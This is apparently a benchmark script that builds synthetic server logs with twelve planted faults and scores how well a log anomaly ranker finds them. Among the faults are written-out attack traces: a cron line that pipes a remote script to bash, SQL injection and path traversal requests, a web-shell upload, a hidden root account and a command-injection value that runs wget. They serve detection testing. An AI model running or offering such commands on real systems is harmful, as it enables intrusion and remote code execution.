"""Planted faults in made logs: how many of them `charlm rank` prints first, and how much of them it marks.

    python -m tests.benchmarks.odd_lines FOLDER [--log web1|worker] [--seed N] [--lines N] [--rare N]
        [-- ARGUMENT...]

Writes to FOLDER a log of which the first two thirds train a model with the default settings, and ranks the rest, in
which 12 faults are planted. A model that is there already is used as it is.

How many faults come first depends on the rare kinds of ordinary lines that a log happens to have, so the README quotes
`web1` with `--seed` 1, 2 and 3, and with `--rare 0`. The smoothing of the runs was chosen on `worker`.
"""

from __future__ import annotations

import argparse
import json
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np

FAULTS = 12
_HEX, _BASE36 = "0123456789abcdef", "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


@dataclass(frozen=True)
class Fault:
    """A planted line: `line` without its time, and the parts of it that are odd."""

    line: str
    parts: tuple[str, ...]


@dataclass(frozen=True)
class MadeLog:
    """The lines of a log, and by number, from 0, the odd parts of the planted ones."""

    lines: list[str]
    planted: dict[int, tuple[str, ...]]


class _Draw:
    """Draws of a log: names, numbers and addresses as logs have them."""

    def __init__(self, seed: int, rare: int) -> None:
        self.rng, self.rare = np.random.default_rng(seed), rare

    def one(self, *choices: str) -> str:
        return choices[int(self.rng.integers(len(choices)))]

    def number(self, low: int, high: int) -> int:
        return int(self.rng.integers(low, high))

    def text(self, letters: str, length: int) -> str:
        return "".join(letters[i] for i in self.rng.integers(0, len(letters), length))

    def address(self) -> str:
        return f"10.0.{self.number(0, 4)}.{self.number(2, 250)}"

    def stranger(self) -> str:
        return ".".join(str(self.number(1, 224)) for _ in range(4))


def _web1(draw: _Draw) -> str:
    """Return an ordinary line of a web server's system log, without its time."""
    one, number = draw.one, draw.number
    user = one("anna", "bob", "carla", "deploy", "backup")
    pid = number(400, 32000)
    paths = ("/", "/index.html", "/login", "/api/v1/items", "/api/v1/users", "/static/app.js", "/static/site.css")
    agents = ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/7.88.1")
    kinds: list[Callable[[], str]] = [
        lambda: f"sshd[{pid}]: Accepted publickey for {user} from {draw.address()} port {number(32768, 61000)} ssh2",
        lambda: (
            f"sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid={1000 + len(user)}) by (uid=0)"
        ),
        lambda: f"sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}",
        lambda: (
            f"sshd[{pid}]: Failed password for invalid user {one('admin', 'test', 'oracle', 'guest', 'pi')} from"
            f" {draw.stranger()} port {number(32768, 61000)} ssh2"
        ),
        lambda: f"sshd[{pid}]: Connection closed by {draw.stranger()} port {number(32768, 61000)} [preauth]",
        lambda: f"CRON[{pid}]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
        lambda: f"CRON[{pid}]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)",
        lambda: f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
        lambda: f"CRON[{pid}]: pam_unix(cron:session): session closed for user root",
        lambda: f"systemd[1]: Started Session {number(1, 9000)} of user {user}.",
        lambda: f"systemd[1]: {one('Starting', 'Started', 'Finished')} {one(*_UNITS)}",
        lambda: f"systemd-logind[512]: New session {number(1, 9000)} of user {user}.",
        lambda: (
            f"kernel: [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:1a:2b:3c:00:1b:17:00:01:10:08:00 SRC={draw.stranger()}"
            f" DST=10.0.0.5 LEN={one('40', '44', '60')} TTL={number(40, 250)} PROTO=TCP SPT={number(1024, 65535)}"
            f" DPT={one('22', '23', '445', '3389', '8080')} SYN"
        ),
        lambda: f"postfix/qmgr[841]: {draw.text(_HEX.upper(), 10)}: removed",
        lambda: (
            f"postfix/smtp[{pid}]: {draw.text(_HEX.upper(), 10)}: to=<{user}@example.org>, relay=mx.example.org"
            f"[10.0.1.25]:25, delay={number(0, 9)}.{number(0, 99)}, dsn=2.0.0, status=sent (250 2.0.0 Ok)"
        ),
        lambda: "systemd-timesyncd[389]: Synchronized to time server 10.0.0.1:123 (ntp.example.org).",
        lambda: (
            f"sudo: {one('anna', 'deploy')} : TTY=pts/{number(0, 4)} ; PWD=/home/{one('anna', 'deploy')} ;"
            f" USER=root ; COMMAND=/usr/bin/{one('systemctl reload nginx', 'apt update', 'journalctl -n 50')}"
        ),
        *[
            lambda: (
                f'nginx: {draw.stranger()} - - "{one("GET", "GET", "GET", "POST")} {one(*paths)} HTTP/1.1"'
                f' {one("200", "200", "200", "304", "404")} {number(120, 48000)} "{one(*agents)}"'
            )
        ]
        * 6,
    ]
    rare: list[Callable[[], str]] = [
        lambda: "kernel: e1000e 0000:00:1f.6 eth0: NIC Link is Up 1000 Mbps Full Duplex, Flow Control: Rx/Tx",
        lambda: (
            f"kernel: usb {number(1, 5)}-{number(1, 9)}: new high-speed USB device"
            f" number {number(2, 90)} using xhci_hcd"
        ),
        lambda: 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0"] rsyslogd was HUPed',
        lambda: (
            f"fstrim[{pid}]: /: {number(1, 40)}.{number(1, 9)} GiB ({number(10**9, 4 * 10**10)} bytes)"
            " trimmed on /dev/sda1"
        ),
        lambda: (
            "smartd[611]: Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed"
            f" from {number(60, 70)} to {number(60, 70)}"
        ),
        lambda: f"anacron[{pid}]: Job `cron.{one('daily', 'weekly')}' terminated",
        lambda: (
            f"dbus-daemon[498]: [system] Successfully activated service"
            f" 'org.freedesktop.{one('hostname1', 'timedate1')}'"
        ),
        lambda: f"certbot[{pid}]: Certificate not yet due for renewal",
        lambda: (
            f"sshd[{pid}]: reverse mapping checking getaddrinfo for host{number(1, 99)}.example.net"
            f" [{draw.stranger()}] failed."
        ),
        lambda: f'nginx: {draw.stranger()} - - "GET /api/v1/items HTTP/1.1" 502 157 "{one(*agents)}"',
        lambda: (
            f"systemd[1]: {one('apt-daily', 'logrotate', 'man-db')}.service: Consumed"
            f" {number(1, 20)}.{number(100, 999)}s CPU time."
        ),
        lambda: f"su[{pid}]: (to postgres) {one('anna', 'deploy')} on pts/{number(0, 4)}",
    ]
    return _of(draw, kinds, rare)


def _of(draw: _Draw, kinds: list[Callable[[], str]], rare: list[Callable[[], str]]) -> str:
    """Return a line of one of the kinds, once in `draw.rare` times of one of the rare ones; never if that is 0."""
    chosen = kinds if not draw.rare or draw.number(0, draw.rare) else rare
    return chosen[draw.number(0, len(chosen))]()


_UNITS = (
    "Daily apt download activities.",
    "Rotate log files.",
    "Cleanup of Temporary Directories.",
    "Message of the Day.",
    "system activity accounting tool.",
)
_WEB1_FAULTS = (
    Fault(
        "sudo: www-data : TTY=unknown ; PWD=/tmp/.X ; USER=root ; COMMAND=/bin/bash -c id",
        ("www-data", "unknown", "/tmp/.X", "/bin/bash -c id"),
    ),
    Fault(
        "CRON[888]: (www-data) CMD (curl -s http://185.220.101.4/x.sh | bash)",
        ("www-data", "curl -s http://185.220.101.4/x.sh | bash"),
    ),
    Fault(
        "sshd[2121]: Accepted password for root from 185.220.101.4 port 40222 ssh2",
        ("password", "root", "185.220.101.4"),
    ),
    Fault(
        "kernel: Out of memory: Killed process 2291 (mysqld) total-vm:4123412kB, anon-rss:3312340kB",
        ("Out of memory: Killed process 2291 (mysqld) total-vm:4123412kB, anon-rss:3312340kB",),
    ),
    Fault(
        "kernel: EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: comm ls: reading directory lblock 0",
        ("EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: comm ls: reading directory lblock 0",),
    ),
    Fault(
        'nginx: 91.12.8.77 - - "GET /index.html?id=1%27%20UNION%20SELECT%20password HTTP/1.1" 200 5120 "curl/7.88.1"',
        ("?id=1%27%20UNION%20SELECT%20password",),
    ),
    Fault(
        'nginx: 45.9.148.3 - - "GET /static/../../../../etc/passwd HTTP/1.1" 200 1842 "curl/7.88.1"',
        ("../../../../etc/passwd",),
    ),
    Fault(
        "useradd[3020]: new user: name=support2, UID=0, GID=0, home=/, shell=/bin/sh",
        ("useradd", "new user: name=support2, UID=0, GID=0, home=/, shell=/bin/sh"),
    ),
    Fault(
        "kernel: php-fpm[4410]: segfault at 7f3a00000010 ip 00007f3a1c2b rsp 7ffd error 4 in libc.so.6",
        ("php-fpm[4410]: segfault at 7f3a00000010 ip 00007f3a1c2b rsp 7ffd error 4 in libc.so.6",),
    ),
    Fault(
        "systemd[1]: nginx.service: Main process exited, code=killed, status=9/KILL",
        ("nginx.service: Main process exited, code=killed, status=9/KILL",),
    ),
    Fault(
        'nginx: 10.0.3.9 - - "POST /uploads/shell.php HTTP/1.1" 200 931 "python-requests/2.31"',
        ("/uploads/shell.php", "python-requests/2.31"),
    ),
    Fault(
        "postfix/smtp[1177]: 5A0C91F2E7: to=<anna@example.org>, relay=none, delay=30, dsn=4.4.1, status=deferred"
        " (connection timed out)",
        ("none", "4.4.1", "deferred (connection timed out)"),
    ),
)


def _worker(draw: _Draw) -> str:
    """Return an ordinary line of the log of a program that works through a queue, without its time."""
    one, number = draw.one, draw.number
    job, host = draw.text(_HEX, 12), f"node-{number(1, 40):02d}"
    queue = one("mail", "thumbnails", "reports", "billing", "search-index")
    kinds: list[Callable[[], str]] = [
        lambda: f"INFO  [pool-{number(1, 9)}] Scheduler: job {job} queued on {queue} priority={number(1, 6)}",
        lambda: f"INFO  [pool-{number(1, 9)}] Worker: job {job} started on {host}",
        lambda: (
            f"INFO  [pool-{number(1, 9)}] Worker: job {job} finished in {number(3, 9000)} ms, {number(1, 400)} items"
        ),
        lambda: f"DEBUG [gc] Heap: used={number(100, 3000)}M committed=4096M pause={number(1, 90)}ms",
        lambda: f"INFO  [http] Gateway: {draw.address()} GET /jobs/{job} {one('200', '200', '404')} {number(1, 80)}ms",
        lambda: f"INFO  [http] Gateway: {draw.address()} PUT /queues/{queue} 204 {number(1, 80)}ms",
        lambda: f"WARN  [pool-{number(1, 9)}] Worker: job {job} slow, {number(10, 60)} s so far, host {host}",
        lambda: f"INFO  [store] Postgres: checkpoint complete, wrote {number(10, 9000)} buffers in {number(1, 30)} s",
        lambda: f"INFO  [store] Cache: hit ratio 0.{number(80, 99)}, {number(1000, 90000)} keys",
        lambda: f"DEBUG [rpc] Client: {host}:{one('7070', '7071')} call {one(*_CALLS)} id={number(1, 999999)} ok",
        lambda: (
            f"INFO  [auth] Session: user {one('svc-mail', 'svc-web', 'nina', 'omar')} token {draw.text(_BASE36, 8)}"
        ),
    ]
    rare: list[Callable[[], str]] = [
        lambda: f"INFO  [main] Cluster: node {host} joined, {number(20, 40)} nodes",
        lambda: f"WARN  [store] Postgres: autovacuum of table {queue.replace('-', '_')} took {number(10, 300)} s",
        lambda: f"ERROR [pool-{number(1, 9)}] Worker: job {job} failed, will be tried again: timeout",
        lambda: "INFO  [main] Config: reloaded /etc/worker/worker.yaml",
    ]
    return _of(draw, kinds, rare)


_CALLS = ("listJobs", "fetchResult", "putBlock", "renewLease", "heartbeat")
_WORKER_FAULTS = (
    Fault(
        "ERROR [store] Postgres: could not write block 118: No space left on device",
        ("ERROR", "could not write block 118: No space left on device"),
    ),
    Fault("INFO  [auth] Session: user root token ../../etc/shadow", ("root", "../../etc/shadow")),
    Fault("WARN  [gc] Heap: used=4093M committed=4096M pause=18230ms", ("[gc]", "18230ms")),
    Fault(
        "ERROR [pool-3] Worker: java.lang.NullPointerException at Resize.java:88",
        ("ERROR", "java.lang.NullPointerException at Resize.java:88"),
    ),
    Fault("INFO  [http] Gateway: 10.0.2.14 DELETE /queues/billing 204 12ms", ("DELETE",)),
    Fault("DEBUG [rpc] Client: node-17:7070 call dropAllTables id=48812 ok", ("dropAllTables",)),
    Fault(
        "INFO  [http] Gateway: 203.0.113.9 GET /jobs/1;wget${IFS}http://203.0.113.9/a 200 3ms",
        ("203.0.113.9", "1;wget${IFS}http://203.0.113.9/a"),
    ),
    Fault(
        "WARN  [rpc] Client: node-08:7071 connection reset by peer, retry 5 of 5",
        ("[rpc]", "connection reset by peer, retry 5 of 5"),
    ),
    Fault("INFO  [store] Cache: hit ratio 0.02, 11 keys", ("0.02",)),
    Fault(
        "FATAL [main] Cluster: lost quorum, 2 of 5 nodes reachable, shutting down",
        ("FATAL", "[main] Cluster: lost quorum, 2 of 5 nodes reachable, shutting down"),
    ),
    Fault("INFO  [pool-2] Worker: job 0a1b2c3d4e5f finished in -1 ms, 0 items", ("-1 ms",)),
    Fault(
        "DEBUG [gc] Heap: OutOfMemoryError, dumping to /var/tmp/java_pid77.hprof",
        ("OutOfMemoryError, dumping to /var/tmp/java_pid77.hprof",),
    ),
)

LOGS = {
    "web1": (_web1, _WEB1_FAULTS, "%b %d %H:%M:%S web1 "),
    "worker": (_worker, _WORKER_FAULTS, "%Y-%m-%d %H:%M:%S "),
}


def made_log(name: str = "web1", *, lines: int = 60_000, seed: int = 1, rare: int = 200) -> MadeLog:
    """Return a log whose last third has 12 planted faults, each in a place of its own.

    rare: one line in so many is ordinary and of a kind that training shows a few times; 0 for none
    """
    ordinary, faults, time = LOGS[name]
    draw = _Draw(seed, rare)
    first = lines * 2 // 3
    places = sorted(int(place) for place in draw.rng.choice(np.arange(first, lines), FAULTS, replace=False))
    order = [faults[i] for i in draw.rng.permutation(FAULTS)]
    planted = dict(zip(places, order, strict=True))
    now, made = datetime(2026, 9, 24), []
    for number in range(lines):
        now += timedelta(seconds=draw.number(0, 40))
        what = planted[number].line if number in planted else ordinary(draw)
        made.append(now.strftime(time) + what)
    return MadeLog(made, {place: fault.parts for place, fault in planted.items()})


def shares(line: str, parts: tuple[str, ...], runs: list[tuple[int, int]]) -> tuple[float, float]:
    """Return how much of the planted parts is marked, and how much of what is marked was planted; spaces do not count.

    runs: start and end of what is marked
    """
    odd, at = set(), 0
    for part in parts:
        at = line.index(part, at)
        odd |= set(range(at, at + len(part)))
        at += len(part)
    marked = {place for start, end in runs for place in range(start, end)}
    odd, marked = ({place for place in places if line[place] != " "} for places in (odd, marked))
    return len(odd & marked) / len(odd), len(odd & marked) / max(1, len(marked))


def main(arguments: list[str] | None = None) -> None:
    """Train, rank, and print how well the faults were found."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--log", default="web1", choices=LOGS)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--lines", type=int, default=60_000)
    parser.add_argument("--rare", type=int, default=200, help="one line in so many is of a rare kind; 0 for none")
    parser.add_argument("arguments", nargs="*", help="of charlm rank, after --")
    given = parser.parse_args(arguments)
    made = made_log(given.log, lines=given.lines, seed=given.seed, rare=given.rare)
    first = given.lines * 2 // 3
    name = f"{given.log}-{given.seed}" + ("" if given.rare else "-plain")
    old, new, model = (given.folder / f"{name}{end}" for end in ("-old.log", "-new.log", ".safetensors"))
    given.folder.mkdir(parents=True, exist_ok=True)
    for path, part in ((old, made.lines[:first]), (new, made.lines[first:])):
        path.write_text("".join(f"{line}\n" for line in part))
    if not model.exists():
        subprocess.run([sys.executable, "-m", "charlm", "train", old, "-o", model], check=True)
    print_figures(ranked(model, new, *given.arguments), {place - first: parts for place, parts in made.planted.items()})


def ranked(model: Path, log: Path, *arguments: str) -> list[dict[str, Any]]:
    """Return the records of the 60 oddest lines, by `charlm rank`."""
    command = [sys.executable, "-m", "charlm", "rank", model, log, "-n", "60", "--format", "jsonl", *arguments]
    run = subprocess.run(command, check=True, capture_output=True)
    return [json.loads(line) for line in run.stdout.splitlines()]


def print_figures(records: list[dict[str, Any]], planted: dict[int, tuple[str, ...]]) -> None:
    """Print the first lines with their marks, and how well the faults are found and marked."""
    found = {record["line"] - 1: record for record in records}
    ranks = sorted(found[place]["rank"] if place in found else 999 for place in planted)
    print(f"ranks of the faults: {ranks}; {sum(rank <= FAULTS for rank in ranks)} of {FAULTS} among the first {FAULTS}")
    of_each = []
    for place, record in found.items():
        runs = [(run["start"], run["end"]) for run in record["runs"]]
        if place in planted:
            of_each.append(shares(record["text"], planted[place], runs))
            print(f"{record['rank']:4}  covered {of_each[-1][0]:.2f}  planted {of_each[-1][1]:.2f}  {record['text']}")
    for least in (0.5, 0.8, 1.0):
        print(f"at least {least:.0%} of the planted part marked: {sum(one >= least for one, _ in of_each)} of {FAULTS}")
    print(f"of what is marked in them, planted: {np.mean([planted for _, planted in of_each]):.0%}")


if __name__ == "__main__":
    main()
